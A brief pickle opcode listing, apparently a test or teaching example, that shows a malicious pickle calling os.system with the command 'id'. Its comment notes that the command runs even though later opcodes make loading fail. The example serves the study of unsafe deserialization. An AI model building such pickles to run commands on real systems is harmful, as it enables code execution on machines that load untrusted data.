# dangerous: the payload has run by then
PROTO 2
GLOBAL os system
BINUNICODE "id"
TUPLE1
REDUCE
EMPTY_DICT
EMPTY_LIST
NONE
SETITEM
STOP
